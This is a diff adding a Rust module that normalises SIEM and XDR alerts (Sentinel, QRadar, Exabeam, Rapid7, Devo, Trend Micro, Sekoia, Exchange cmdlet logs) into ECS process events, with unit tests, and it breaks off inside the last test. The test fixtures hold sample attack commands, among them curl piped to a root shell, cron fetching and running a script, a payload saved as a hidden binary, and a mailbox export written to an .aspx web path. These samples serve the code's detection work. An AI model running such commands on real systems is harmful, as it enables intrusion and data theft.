@@ -1,0 +1,803 @@
+//! SIEM and XDR platforms' own shapes for a process event or a correlated alert, mapped onto
+//! ECS: Microsoft Sentinel's ASIM process events, IBM QRadar AQL event rows, Exabeam alerts,
+//! Rapid7 InsightIDR investigations and alerts with their evidence, Devo alerts carrying their
+//! event in `extraData`, Trend Micro's flat detections (Apex One, Vision One search),
+//! Sekoia.io alerts with their ECS events, rows of Sentinel's `Event` table, and Exchange's
+//! cmdlet log.
+//!
+//! Platforms that correlate several events into one alert (a logon, `sudo`, then the shell)
+//! list them in order: the newest process event is the process; the other process events'
+//! command lines follow its own, one per line, so the analysis sees the whole chain. Field
+//! names differ in case and separators between platforms and custom properties ("Process
+//! CommandLine", `process_command_line`, `processCommandLine`), so they are compared
+//! normalised: lower case, without spaces, `_`, `-` or `.`.
+
+use super::edr::{finish, mtext, put_process, set_techniques, set_user, text, with_branches};
+use super::{s, set_path};
+use serde_json::{Map, Value as Json};
+use std::collections::HashMap;
+
+/// A flat event's fields by normalised name.
+struct Flat<'a>(HashMap<String, &'a Json>);
+
+impl<'a> Flat<'a> {
+    fn new(ev: &'a Map<String, Json>) -> Self {
+        Flat(
+            ev.iter()
+                .map(|(k, v)| {
+                    let k: String = k
+                        .chars()
+                        .filter(|c| !matches!(c, ' ' | '_' | '-' | '.'))
+                        .flat_map(char::to_lowercase)
+                        .collect();
+                    (k, v)
+                })
+                .collect(),
+        )
+    }
+
+    /// The first of `names` with a non-empty text value.
+    fn get(&self, names: &[&str]) -> Option<&'a str> {
+        names.iter().find_map(|n| {
+            self.0
+                .get(*n)
+                .and_then(|v| v.as_str())
+                .map(str::trim)
+                .filter(|v| !v.is_empty() && *v != "-" && *v != "null" && *v != "N/A")
+        })
+    }
+
+    fn num(&self, names: &[&str]) -> Option<i64> {
+        names.iter().find_map(|n| {
+            let v = self.0.get(*n)?;
+            v.as_i64().or_else(|| v.as_str()?.trim().parse().ok())
+        })
+    }
+}
+
+/// A process event under whatever names a platform gives it: the process (path, name, command
+/// line, id, directory), its parent and the user. `None` when it names no process.
+fn flat_process(ev: &Map<String, Json>) -> Option<Map<String, Json>> {
+    let f = Flat::new(ev);
+    let cmd = f.get(&[
+        "processcommandline",
+        "processcmdline",
+        "processcmd",
+        "commandline",
+        "cmdline",
+        "command",
+    ]);
+    let name = f.get(&["processname", "process"]);
+    let path = f
+        .get(&[
+            "processpath",
+            "processfilepath",
+            "processimage",
+            "image",
+            "exepath",
+        ])
+        .or(name.filter(|n| n.contains(['/', '\\'])));
+    if cmd.is_none() && path.is_none() {
+        return None;
+    }
+    let mut e = Map::new();
+    put_process(&mut e, "process", path.map(str::to_owned), cmd);
+    if path.is_none()
+        && let Some(n) = name
+    {
+        set_path(&mut e, "process.name", s(n));
+    }
+    let pname = f.get(&["parentprocessname", "parentname"]);
+    let ppath = f
+        .get(&["parentprocesspath", "parentprocessfilepath", "parentimage"])
+        .or(pname.filter(|n| n.contains(['/', '\\'])));
+    put_process(
+        &mut e,
+        "process.parent",
+        ppath.map(str::to_owned),
+        f.get(&["parentprocesscommandline", "parentcommandline", "parentcmd"]),
+    );
+    if ppath.is_none()
+        && let Some(n) = pname
+    {
+        set_path(&mut e, "process.parent.name", s(n));
+    }
+    for (names, to) in [
+        (&["processid", "pid"][..], "process.pid"),
+        (&["parentprocessid", "ppid"][..], "process.parent.pid"),
+    ] {
+        if let Some(v) = f.num(names) {
+            set_path(&mut e, to, Json::from(v));
+        }
+    }
+    if let Some(d) = f.get(&["processdir", "currentdirectory", "workingdirectory", "cwd"]) {
+        set_path(&mut e, "process.working_directory", s(d));
+    }
+    if let Some(u) = f.get(&["username", "processuser", "user", "account"]) {
+        match f.get(&["userdomain", "accountdomain"]) {
+            Some(d) if !u.contains('\\') => set_user(&mut e, &format!("{d}\\{u}")),
+            _ => set_user(&mut e, u),
+        }
+    }
+    if let Some(h) = f.get(&[
+        "hostname",
+        "host",
+        "computername",
+        "devicehostname",
+        "impactedhostname",
+    ]) {
+        set_path(&mut e, "host.name", s(h));
+    }
+    Some(e)
+}
+
+/// The newest of several process events, with the others' command lines as its branches.
+fn newest_with_branches(mut procs: Vec<Map<String, Json>>) -> Option<Map<String, Json>> {
+    let mut me = procs.pop()?;
+    let cmd = |e: &Map<String, Json>| {
+        e.get("process")
+            .and_then(|p| text(p, "command_line"))
+            .map(str::to_owned)
+    };
+    let others: Vec<String> = procs.iter().rev().filter_map(cmd).collect();
+    if let Some(all) = with_branches(cmd(&me).as_deref(), others.iter().map(String::as_str))
+        && let Some(Json::Object(p)) = me.get_mut("process")
+    {
+        p.insert("command_line".into(), Json::String(all));
+    }
+    Some(me)
+}
+
+/// Microsoft Sentinel's ASIM process events (`imProcessCreate`, `_Im_ProcessEvent`): the
+/// `Target*` process was started by the `Acting*` one, whose own parent is `Parent*`.
+pub(super) fn sentinel_asim(
+    obj: &Map<String, Json>,
+) -> Option<(Map<String, Json>, Option<String>)> {
+    let target_cmd = mtext(obj, "TargetProcessCommandLine");
+    let target = mtext(obj, "TargetProcessName");
+    if target_cmd.is_none() && target.is_none() {
+        return None;
+    }
+    let mut e = Map::new();
+    put_process(&mut e, "process", target.map(str::to_owned), target_cmd);
+    put_process(
+        &mut e,
+        "process.parent",
+        mtext(obj, "ActingProcessName").map(str::to_owned),
+        mtext(obj, "ActingProcessCommandLine"),
+    );
+    put_process(
+        &mut e,
+        "process.parent.parent",
+        mtext(obj, "ParentProcessName").map(str::to_owned),
+        None,
+    );
+    for (from, to) in [
+        ("TargetProcessId", "process.pid"),
+        ("ActingProcessId", "process.parent.pid"),
+    ] {
+        if let Some(v) = obj.get(from).and_then(|v| {
+            v.as_i64()
+                .or_else(|| v.as_str().and_then(|x| x.parse().ok()))
+        }) {
+            set_path(&mut e, to, Json::from(v));
+        }
+    }
+    if let Some(d) = mtext(obj, "TargetProcessCurrentDirectory") {
+        set_path(&mut e, "process.working_directory", s(d));
+    }
+    if let Some(h) = mtext(obj, "TargetProcessSHA256") {
+        set_path(&mut e, "process.hash.sha256", s(h));
+    }
+    if let Some(l) = mtext(obj, "TargetProcessIntegrityLevel").filter(|l| *l != "no level") {
+        set_path(&mut e, "process.integrity_level", s(l));
+    }
+    if let Some(u) = mtext(obj, "TargetUsername").or_else(|| mtext(obj, "ActorUsername")) {
+        set_user(&mut e, u);
+    }
+    if let Some(h) = ["DvcHostname", "DvcHostName", "Dvc", "Computer"]
+        .into_iter()
+        .find_map(|k| mtext(obj, k))
+    {
+        set_path(&mut e, "host.name", s(h));
+    }
+    if let Some(os) = mtext(obj, "DvcOs") {
+        set_path(&mut e, "host.os.name", s(os));
+    }
+    if let Some(t) = mtext(obj, "EventStartTime").or_else(|| mtext(obj, "TimeGenerated")) {
+        e.insert("@timestamp".into(), s(t));
+    }
+    let id = mtext(obj, "EventOriginalUid").map(str::to_owned);
+    finish(
+        &mut e,
+        "sentinel_asim",
+        "sentinel_asim",
+        Json::Object(obj.clone()),
+    );
+    Some((e, id))
+}
+
+/// IBM QRadar's Ariel search results (`/api/ariel/searches/{id}/results`: `events`, one row
+/// per event with the query's column names, often the offense's events), Exabeam alerts
+/// (`events`, snake_case) and LogRhythm alarms (`alarmEventsDetails`: `command`, `process`,
+/// `account`, `impactedHostName`): the process rows, newest last. QRadar names the host in its log
+/// source ("LinuxServer @ db-rpt-02").
+pub(super) fn correlated_events(
+    obj: &Map<String, Json>,
+) -> Option<(Map<String, Json>, Option<String>)> {
+    let qradar = obj.contains_key("search_id") || obj.contains_key("offense_id");
+    let exabeam = obj.contains_key("alertId") && obj.contains_key("alertName");
+    let logrhythm = obj.contains_key("alarmId");
+    if !(qradar || exabeam || logrhythm) {
+        return None;
+    }
+    let events = obj
+        .get(if logrhythm {
+            "alarmEventsDetails"
+        } else {
+            "events"
+        })?
+        .as_array()?;
+    let procs: Vec<Map<String, Json>> = events
+        .iter()
+        .filter_map(Json::as_object)
+        .filter_map(|ev| {
+            let mut p = flat_process(ev)?;
+            let f = Flat::new(ev);
+            if p.get("host").is_none()
+                && let Some(h) = f
+                    .get(&["logsource"])
+                    .and_then(|l| l.rsplit_once(" @ "))
+                    .map(|(_, h)| h.trim())
+            {
+                set_path(&mut p, "host.name", s(h));
+            }
+            Some(p)
+        })
+        .collect();
+    let mut e = newest_with_branches(procs)?;
+    let mut ids: Vec<&str> = Vec::new();
+    for m in obj
+        .get("mitres")
+        .and_then(Json::as_array)
+        .into_iter()
+        .flatten()
+    {
+        ids.extend(text(m, "techniqueKey"));
+    }
+    set_techniques(&mut e, &ids);
+    let rule = mtext(obj, "alertName")
+        .or_else(|| mtext(obj, "alarmRuleName"))
+        .or_else(|| {
+            mtext(obj, "offense_description").map(|d| d.lines().next().unwrap_or(d).trim())
+        });
+    if let Some(r) = rule {
+        set_path(&mut e, "rule.name", s(r));
+    }
+    let id = mtext(obj, "alertId").map(str::to_owned).or_else(|| {
+        obj.get("offense_id")
+            .or_else(|| obj.get("alarmId"))
+            .map(|v| v.to_string())
+    });
+    let provider = if exabeam {
+        "exabeam"
+    } else if logrhythm {
+        "logrhythm"
+    } else {
+        "qradar"
+    };
+    finish(&mut e, provider, provider, Json::Object(obj.clone()));
+    Some((e, id))
+}
+
+/// Rapid7 InsightIDR investigations (`alerts[]`) and alerts, with their evidence
+/// (`evidence` / `evidences`: `event_type`, and the event itself as a JSON string under
+/// `data`). Each `PROCESS_START_EVENT` names the `process` and `parent_process` (`exe_path`,
+/// `cmd_line`, `username`); the newest is the process.
+pub(super) fn rapid7_idr(obj: &Map<String, Json>) -> Option<(Map<String, Json>, Option<String>)> {
+    // An investigation's alerts, each with its evidence, or one alert carrying its own.
+    let whole = Json::Object(obj.clone());
+    let alerts: Vec<&Json> = match obj.get("alerts").and_then(Json::as_array) {
+        Some(list) => list.iter().collect(),
+        None => vec![&whole],
+    };
+    let evidence = |a: &Json| -> Vec<Json> {
+        a.get("evidence")
+            .or_else(|| a.get("evidences"))
+            .and_then(Json::as_array)
+            .into_iter()
+            .flatten()
+            .filter(|ev| text(ev, "event_type") == Some("PROCESS_START_EVENT"))
+            .filter_map(|ev| match ev.get("data")? {
+                Json::String(d) => serde_json::from_str(d).ok(),
+                d @ Json::Object(_) => Some(d.clone()),
+                _ => None,
+            })
+            .collect()
+    };
+    let mut procs = Vec::new();
+    let mut ids: Vec<String> = Vec::new();
+    let mut rule = None;
+    for a in alerts {
+        for d in evidence(a) {
+            let p = d.get("process");
+            let pp = d.get("parent_process");
+            let mut flat = Map::new();
+            for (k, v) in [
+                ("process_path", p.and_then(|p| text(p, "exe_path"))),
+                ("process_name", p.and_then(|p| text(p, "name"))),
+                ("process_command_line", p.and_then(|p| text(p, "cmd_line"))),
+                ("parent_process_path", pp.and_then(|p| text(p, "exe_path"))),
+                ("parent_process_name", pp.and_then(|p| text(p, "name"))),
+                ("parent_command_line", pp.and_then(|p| text(p, "cmd_line"))),
+                (
+                    "username",
+                    p.and_then(|p| text(p, "username"))
+                        .or_else(|| text(&d, "user")),
+                ),
+                (
+                    "hostname",
+                    text(&d, "hostname").or_else(|| text(&d, "asset")),
+                ),
+            ] {
+                if let Some(v) = v {
+                    flat.insert(k.into(), s(v));
+                }
+            }
+            if let Some(pid) = p.and_then(|p| p.get("pid")) {
+                flat.insert("pid".into(), pid.clone());
+            }
+            if let Some(mut e) = flat_process(&flat) {
+                if let Some(os) = text(&d, "os_type") {
+                    set_path(&mut e, "host.os.name", s(os));
+                }
+                procs.push(e);
+            }
+        }
+        for t in a
+            .get("mitre_tcodes")
+            .and_then(Json::as_array)
+            .into_iter()
+            .flatten()
+        {
+            ids.extend(t.as_str().map(str::to_owned));
+        }
+        rule = rule.or_else(|| text(a, "title").map(str::to_owned));
+    }
+    let mut e = newest_with_branches(procs)?;
+    set_techniques(&mut e, &ids.iter().map(String::as_str).collect::<Vec<_>>());
+    if let Some(r) = mtext(obj, "title").map(str::to_owned).or(rule) {
+        set_path(&mut e, "rule.name", Json::String(r));
+    }
+    let id = mtext(obj, "rrn")
+        .or_else(|| mtext(obj, "id"))
+        .map(str::to_owned);
+    finish(&mut e, "rapid7", "rapid7", Json::Object(obj.clone()));
+    Some((e, id))
+}
+
+/// A Devo alert (`alertId`, `context`): the event that raised it, as JSON text under
+/// `extraData`, is read as the alert; the alert's context names the rule.
+pub(super) fn devo_event(obj: &Map<String, Json>) -> Option<(Map<String, Json>, String)> {
+    if !(obj.contains_key("alertId") && obj.contains_key("context")) {
+        return None;
+    }
+    let inner: Map<String, Json> = match obj.get("extraData")? {
+        Json::String(d) => serde_json::from_str(d).ok()?,
+        Json::Object(o) => o.clone(),
+        _ => return None,
+    };
+    let rule = mtext(obj, "context")
+        .map(|c| c.rsplit('.').next().unwrap_or(c).to_owned())
+        .unwrap_or_default();
+    Some((inner, rule))
+}
+
+/// Trend Micro's flat detections (Apex One's and Vision One's detection search: `processCmd`
+/// started `objectCmd`, `parentCmd` above it; `endpointHostName`, `processUser`).
+pub(super) fn trend_detection(
+    obj: &Map<String, Json>,
+) -> Option<(Map<String, Json>, Option<String>)> {
+    if !(obj.contains_key("endpointHostName") || obj.contains_key("endpointGUID"))
+        || !(obj.contains_key("processCmd") || obj.contains_key("objectCmd"))
+    {
+        return None;
+    }
+    let object = (mtext(obj, "objectFilePath"), mtext(obj, "objectCmd"));
+    let acting = (mtext(obj, "processFilePath"), mtext(obj, "processCmd"));
+    let parent = (mtext(obj, "parentFilePath"), mtext(obj, "parentCmd"));
+    let chain = if object.0.is_some() || object.1.is_some() {
+        vec![object, acting, parent]
+    } else {
+        vec![acting, parent]
+    };
+    let mut e = Map::new();
+    for ((path, cmd), prefix) in
+        chain
+            .into_iter()
+            .zip(["process", "process.parent", "process.parent.parent"])
+    {
+        let path = path
+            .map(str::to_owned)
+            .or_else(|| cmd.and_then(|c| crate::funcs::split_args(c).into_iter().next()));
+        put_process(&mut e, prefix, path, cmd);
+    }
+    if let Some(u) = mtext(obj, "processUser") {
+        match mtext(obj, "userDomain") {
+            Some(d) => set_user(&mut e, &format!("{d}\\{u}")),
+            None => set_user(&mut e, u),
+        }
+    }
+    if let Some(h) = mtext(obj, "endpointHostName") {
+        set_path(&mut e, "host.name", s(h));
+    }
+    if let Some(r) = mtext(obj, "ruleName") {
+        set_path(&mut e, "rule.name", s(r));
+    }
+    let tags: Vec<&str> = obj
+        .get("tags")
+        .and_then(Json::as_array)
+        .into_iter()
+        .flatten()
+        .filter_map(Json::as_str)
+        .filter_map(|t| t.split_once('.').map(|(_, id)| id))
+        .collect();
+    set_techniques(&mut e, &tags);
+    if let Some(t) = mtext(obj, "eventTimeDT") {
+        e.insert("@timestamp".into(), s(t));
+    }
+    let id = mtext(obj, "uuid").map(str::to_owned);
+    finish(
+        &mut e,
+        "trend_vision_one",
+        "trend_micro",
+        Json::Object(obj.clone()),
+    );
+    Some((e, id))
+}
+
+/// Sekoia.io alerts (`short_id`, `urgency`, `events`: the ECS events the rule matched, the
+/// matching one first): the first event with a process is the alert; the others' command lines
+/// follow its own. The alert's rule and `ttps` are kept.
+pub(super) fn sekoia_alert(obj: &Map<String, Json>) -> Option<(Map<String, Json>, Option<String>)> {
+    if !(obj.contains_key("short_id") && obj.contains_key("urgency")) {
+        return None;
+    }
+    let events: Vec<Map<String, Json>> = obj
+        .get("events")?
+        .as_array()?
+        .iter()
+        .filter_map(Json::as_object)
+        .map(|ev| super::expand(ev.clone()))
+        .collect();
+    let cmd = |ev: &Map<String, Json>| {
+        ev.get("process")
+            .and_then(|p| text(p, "command_line"))
+            .map(str::to_owned)
+    };
+    let first = events.iter().position(|ev| cmd(ev).is_some())?;
+    let mut e = events[first].clone();
+    let others: Vec<String> = events
+        .iter()
+        .enumerate()
+        .filter(|(i, _)| *i != first)
+        .filter_map(|(_, ev)| cmd(ev))
+        .collect();
+    if let Some(all) = with_branches(
+        cmd(&events[first]).as_deref(),
+        others.iter().map(String::as_str),
+    ) && let Some(Json::Object(p)) = e.get_mut("process")
+    {
+        p.insert("command_line".into(), Json::String(all));
+    }
+    if let Some(r) = obj.get("rule").and_then(|r| text(r, "name")) {
+        set_path(&mut e, "rule.name", s(r));
+    }
+    let ids: Vec<&str> = obj
+        .get("ttps")
+        .and_then(Json::as_array)
+        .into_iter()
+        .flatten()
+        .filter_map(|t| text(t, "id"))
+        .collect();
+    set_techniques(&mut e, &ids);
+    let id = mtext(obj, "uuid").map(str::to_owned);
+    finish(&mut e, "sekoia", "sekoia", Json::Object(obj.clone()));
+    Some((e, id))
+}
+
+/// A row of Microsoft Sentinel's `Event` table (Windows events collected by the Log Analytics
+/// agent: Sysmon, PowerShell, Security): the event's fields are XML text in `EventData`
+/// (`<Data Name="CommandLine">…</Data>`). Read as the flat record NXLog would have shipped.
+pub(super) fn sentinel_event_row(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
+    let xml = mtext(obj, "EventData")?;
+    obj.get("EventID")?;
+    if !xml.contains("<Data Name=") {
+        return None;
+    }
+    let mut flat = Map::new();
+    let mut rest = xml;
+    while let Some(i) = rest.find("<Data Name=\"") {
+        let after = &rest[i + "<Data Name=\"".len()..];
+        let Some((name, tail)) = after.split_once('"') else {
+            break;
+        };
+        let Some(open_end) = tail.find('>') else {
+            break;
+        };
+        let body = &tail[open_end + 1..];
+        // `<Data Name="x" />` has no value.
+        if tail[..open_end].ends_with('/') {
+            rest = body;
+            continue;
+        }
+        let end = body.find("</Data>").unwrap_or(body.len());
+        let value = super::xml_unescape(&body[..end]);
+        if !value.is_empty() {
+            flat.insert(name.to_owned(), Json::String(value));
+        }
+        rest = &body[end..];
+    }
+    for (from, to) in [
+        ("EventID", "EventID"),
+        ("EventLog", "Channel"),
+        ("Computer", "Computer"),
+        ("Source", "SourceName"),
+        ("TimeGenerated", "TimeCreated"),
+    ] {
+        if let Some(v) = obj.get(from) {
+            flat.entry(to.to_owned()).or_insert(v.clone());
+        }
+    }
+    if let Some(u) = mtext(obj, "UserName") {
+        flat.entry("User".to_owned()).or_insert(s(u));
+    }
+    Some(flat)
+}
+
+/// Exchange's cmdlet log (`MSExchange CmdletLogs`, event 1 in the MSExchange Management log, as
+/// winlogbeat ships it): `param1` the cmdlet, `param2` its parameters, `param3` the caller,
+/// `param4` the caller's SID, `param6` where the session came from. Read as a PowerShell
+/// command: the cmdlet and its parameters are the content.
+pub(super) fn exchange_cmdlet(
+    obj: &Map<String, Json>,
+) -> Option<(Map<String, Json>, Option<String>)> {
+    let w = obj.get("winlog")?;
+    if text(w, "provider_name") != Some("MSExchange CmdletLogs") {
+        return None;
+    }
+    let data = w.get("event_data")?;
+    let cmdlet = text(data, "param1")?;
+    let params = text(data, "param2").unwrap_or_default();
+    let mut e = Map::new();
+    set_path(&mut e, "process.name", s("powershell.exe"));
+    set_path(
+        &mut e,
+        "process.command_line",
+        s(&format!("{cmdlet} {params}").trim_end().to_owned()),
+    );
+    set_path(&mut e, "powershell.command.name", s(cmdlet));
+    // The caller as Active Directory names it: `domain/Users/name`.
+    if let Some(c) = text(data, "param3") {
+        let name = c.rsplit('/').next().unwrap_or(c);
+        set_path(&mut e, "user.name", s(name));
+        if let Some((d, _)) = c.split_once('/') {
+            set_path(&mut e, "user.domain", s(d));
+        }
+    }
+    if let Some(sid) = text(data, "param4") {
+        set_path(&mut e, "user.id", s(sid));
+    }
+    if let Some(h) =
+        text(w, "computer_name").or_else(|| obj.get("host").and_then(|h| text(h, "name")))
+    {
+        set_path(&mut e, "host.name", s(h));
+    }
+    set_path(&mut e, "host.os.type", s("windows"));
+    if let Some(t) = mtext(obj, "@timestamp") {
+        e.insert("@timestamp".into(), s(t));
+    }
+    let id = w.get("record_id").map(|r| r.to_string());
+    finish(
+        &mut e,
+        "exchange_cmdlet",
+        "exchange",
+        Json::Object(obj.clone()),
+    );
+    Some((e, id))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn str_at<'a>(e: &'a Map<String, Json>, path: &str) -> &'a str {
+        let mut v = e.get(path.split('.').next().unwrap());
+        for k in path.split('.').skip(1) {
+            v = v.and_then(|x| x.get(k));
+        }
+        v.and_then(Json::as_str).unwrap_or("")
+    }
+
+    #[test]
+    fn sentinel_asim_process_event() {
+        let a = json!({"EventSchema": "ProcessEvent", "DvcHostname": "web-4", "DvcOs": "Linux",
+            "TargetProcessName": "/usr/bin/dash", "TargetProcessCommandLine": "sh -c id",
+            "TargetProcessCurrentDirectory": "/var/www/html", "TargetUsername": "www-data", "TargetProcessId": "287",
+            "ActingProcessName": "/usr/sbin/php-fpm8.1", "ActingProcessCommandLine": "php-fpm: pool www",
+            "ParentProcessName": "/usr/lib/systemd/systemd", "EventOriginalUid": "771902"});
+        let (e, id) = sentinel_asim(a.as_object().unwrap()).unwrap();
+        assert_eq!(id.as_deref(), Some("771902"));
+        assert_eq!(str_at(&e, "process.name"), "dash");
+        assert_eq!(str_at(&e, "process.command_line"), "sh -c id");
+        assert_eq!(str_at(&e, "process.parent.name"), "php-fpm8.1");
+        assert_eq!(str_at(&e, "process.parent.parent.name"), "systemd");
+        assert_eq!(str_at(&e, "process.working_directory"), "/var/www/html");
+        assert_eq!(str_at(&e, "user.name"), "www-data");
+        assert_eq!(e["process"]["pid"], 287);
+        assert_eq!(str_at(&e, "host.name"), "web-4");
+    }
+
+    #[test]
+    fn qradar_and_exabeam_events_take_the_newest_process() {
+        let q = json!({"search_id": "0b1f", "offense_id": 48902, "offense_description": "Shell spawned\n preceded by sudo\n",
+            "events": [
+                {"Event Name": "SSH Login Succeeded", "username": "tb", "Process Name": "sshd", "Process CommandLine": null},
+                {"username": "tb", "Process Name": "sudo", "Process CommandLine": "sudo su -", "Parent Process Name": "bash", "Log Source": "LinuxServer @ db-2"},
+                {"username": "root", "Process Name": "python3", "Process CommandLine": "python3 -c 'import pty'", "Parent Process Name": "bash", "Log Source": "LinuxAudit @ db-2"}]});
+        let (e, id) = correlated_events(q.as_object().unwrap()).unwrap();
+        assert_eq!(id.as_deref(), Some("48902"));
+        assert_eq!(str_at(&e, "process.name"), "python3");
+        assert_eq!(
+            str_at(&e, "process.command_line"),
+            "python3 -c 'import pty'\nsudo su -"
+        );
+        assert_eq!(str_at(&e, "process.parent.name"), "bash");
+        assert_eq!(str_at(&e, "user.name"), "root");
+        assert_eq!(str_at(&e, "host.name"), "db-2");
+        assert_eq!(str_at(&e, "rule.name"), "Shell spawned");
+        let x = json!({"alertId": "3f9b", "alertName": "Cron runs hidden script", "mitres": [{"techniqueKey": "T1059.004"}],
+            "events": [{"host": "pg-3", "user": "postgres", "process_path": "/usr/bin/bash", "process_command_line": "/bin/bash /tmp/.X25-unix/a",
+                        "process_dir": "/tmp/.X25-unix", "parent_process_path": "/usr/sbin/cron", "process_id": "2219807"}]});
+        let (e, _) = correlated_events(x.as_object().unwrap()).unwrap();
+        assert_eq!(str_at(&e, "process.name"), "bash");
+        assert_eq!(str_at(&e, "process.parent.name"), "cron");
+        assert_eq!(str_at(&e, "process.working_directory"), "/tmp/.X25-unix");
+        assert_eq!(str_at(&e, "host.name"), "pg-3");
+        assert_eq!(e["threat"]["technique"]["id"], json!(["T1059.004"]));
+        assert!(correlated_events(json!({"events": []}).as_object().unwrap()).is_none());
+    }
+
+    #[test]
+    fn rapid7_investigation_evidence() {
+        let ev = |cmd: &str, user: &str, parent: &str| {
+            json!({"event_type": "PROCESS_START_EVENT", "data": json!({"hostname": "db-1", "os_type": "Linux",
+                "process": {"name": "x", "exe_path": format!("/usr/bin/{}", cmd.split(' ').next().unwrap()), "cmd_line": cmd, "username": user, "pid": 7},
+                "parent_process": {"name": "bash", "exe_path": "/usr/bin/bash", "cmd_line": parent}}).to_string()})
+        };
+        let a = json!({"rrn": "rrn:investigation:1", "title": "Piped download to root shell", "alerts": [
+            {"title": "SSH from new asset", "mitre_tcodes": ["T1021.004"], "evidence": [{"event_type": "INGRESS_AUTHENTICATION", "data": "{}"}]},
+            {"title": "Curl piped to shell", "mitre_tcodes": ["T1059.004"], "evidence": [
+                ev("sudo bash -c curl -s http://203.0.113.61/s | bash", "deploy", "-bash"),
+                ev("curl -s http://203.0.113.61/s", "root", "bash -c curl -s http://203.0.113.61/s | bash")]}]});
+        let (e, id) = rapid7_idr(a.as_object().unwrap()).unwrap();
+        assert_eq!(id.as_deref(), Some("rrn:investigation:1"));
+        assert_eq!(str_at(&e, "process.name"), "curl");
+        assert_eq!(
+            str_at(&e, "process.command_line"),
+            "curl -s http://203.0.113.61/s\nsudo bash -c curl -s http://203.0.113.61/s | bash"
+        );
+        assert_eq!(
+            str_at(&e, "process.parent.command_line"),
+            "bash -c curl -s http://203.0.113.61/s | bash"
+        );
+        assert_eq!(str_at(&e, "user.name"), "root");
+        assert_eq!(str_at(&e, "host.name"), "db-1");
+        assert_eq!(
+            e["threat"]["technique"]["id"],
+            json!(["T1021.004", "T1059.004"])
+        );
+    }
+
+    #[test]
+    fn devo_extra_data_and_trend_detections() {
+        let d = json!({"alertId": "1182", "context": "my.alert.acme.ScriptHost", "extraData": "{\"EventID\": 1, \"Image\": \"C:\\\\Windows\\\\System32\\\\cscript.exe\"}"});
+        let (inner, rule) = devo_event(d.as_object().unwrap()).unwrap();
+        assert_eq!(inner["Image"], "C:\\Windows\\System32\\cscript.exe");
+        assert_eq!(rule, "ScriptHost");
+        let t = json!({"uuid": "a3c9", "endpointHostName": "EC2-1", "processUser": "SYSTEM", "userDomain": "NT AUTHORITY",
+            "processFilePath": "C:\\Program Files\\Amazon\\SSM\\ssm-document-worker.exe", "processCmd": "ssm-document-worker.exe x",
+            "objectFilePath": "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe", "objectCmd": "powershell.exe -f C:\\ProgramData\\Amazon\\SSM\\a.ps1",
+            "ruleName": "PowerShell by service", "tags": ["MITREV9.T1059.001", "XSAE.F7311"]});
+        let (e, id) = trend_detection(t.as_object().unwrap()).unwrap();
+        assert_eq!(id.as_deref(), Some("a3c9"));
+        assert_eq!(str_at(&e, "process.name"), "powershell.exe");
+        assert_eq!(str_at(&e, "process.parent.name"), "ssm-document-worker.exe");
+        assert_eq!(str_at(&e, "user.name"), "SYSTEM");
+        assert_eq!(str_at(&e, "user.domain"), "NT AUTHORITY");
+        assert_eq!(e["threat"]["technique"]["id"], json!(["T1059.001"]));
+    }
+    #[test]
+    fn sekoia_alert_takes_the_matching_event_and_the_others_as_branches() {
+        let a = json!({"uuid": "c1f7", "short_id": "ALz", "urgency": {"value": 85}, "rule": {"name": "Piped Download From Cron"},
+            "ttps": [{"id": "T1059.004"}, {"id": "T1053.003"}],
+            "events": [
+                {"user": {"name": "root"}, "host": {"name": "etl-1"}, "process": {"name": "sh", "command_line": "/bin/sh -c (curl -fsSL http://198.51.100.131/c.sh)|sh",
+                    "parent": {"name": "cron"}}},
+                {"file": {"path": "/usr/bin/.kswapd"}, "process.command_line": "curl -fsSL http://198.51.100.131/x -o /usr/bin/.kswapd"},
+                {"file": {"path": "/etc/passwd"}}]});
+        let (e, id) = sekoia_alert(a.as_object().unwrap()).unwrap();
+        assert_eq!(id.as_deref(), Some("c1f7"));
+        assert_eq!(
+            str_at(&e, "process.command_line"),
+            "/bin/sh -c (curl -fsSL http://198.51.100.131/c.sh)|sh\ncurl -fsSL http://198.51.100.131/x -o /usr/bin/.kswapd"
+        );
+        assert_eq!(str_at(&e, "user.name"), "root");
+        assert_eq!(str_at(&e, "process.parent.name"), "cron");
+        assert_eq!(str_at(&e, "rule.name"), "Piped Download From Cron");
+        assert_eq!(
+            e["threat"]["technique"]["id"],
+            json!(["T1059.004", "T1053.003"])
+        );
+    }
+    #[test]
+    fn sentinel_event_table_rows_read_their_event_data() {
+        let row = json!({"Type": "Event", "EventID": 4104, "EventLog": "Microsoft-Windows-PowerShell/Operational",
+            "Source": "Microsoft-Windows-PowerShell", "Computer": "LT-1", "UserName": "KESTREL\\nbell",
+            "EventData": "<DataItem type=\"System.XmlData\"><EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"MessageNumber\">1</Data><Data Name=\"ScriptBlockText\">iex &amp; &lt;x&gt;</Data><Data Name=\"Path\" /><Data Name=\"ScriptBlockId\">a-1</Data></EventData></DataItem>"});
+        let flat = sentinel_event_row(row.as_object().unwrap()).unwrap();
+        assert_eq!(flat["ScriptBlockText"], "iex & <x>");
+        assert_eq!(flat["ScriptBlockId"], "a-1");
+        assert!(!flat.contains_key("Path"));
+        assert_eq!(flat["EventID"], 4104);
+        assert_eq!(flat["Channel"], "Microsoft-Windows-PowerShell/Operational");
+        assert_eq!(flat["User"], "KESTREL\\nbell");
+        assert!(
+            sentinel_event_row(
+                json!({"EventID": 1, "EventData": "plain"})
+                    .as_object()
+                    .unwrap()
+            )
+            .is_none()
+        );
+    }
+    #[test]
+    fn exchange_cmdlet_log_is_the_cmdlet_and_its_caller() {
+        let a = json!({"@timestamp": "2025-02-18T04:52:11Z", "winlog": {"provider_name": "MSExchange CmdletLogs",
+            "computer_name": "MX01", "record_id": 640211, "event_data": {"param1": "New-MailboxExportRequest",
+            "param2": "{Mailbox=j@x.com, FilePath=\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\z.aspx}",
+            "param3": "x.com/Users/Administrator", "param4": "S-1-5-21-1-2-3-500"}}});
+        let (e, id) = exchange_cmdlet(a.as_object().unwrap()).unwrap();
+        assert_eq!(id.as_deref(), Some("640211"));
+        assert!(
+            str_at(&e, "process.command_line")
+                .starts_with("New-MailboxExportRequest {Mailbox=j@x.com, FilePath=")
+        );
+        assert_eq!(str_at(&e, "user.name"), "Administrator");
+        assert_eq!(str_at(&e, "user.domain"), "x.com");
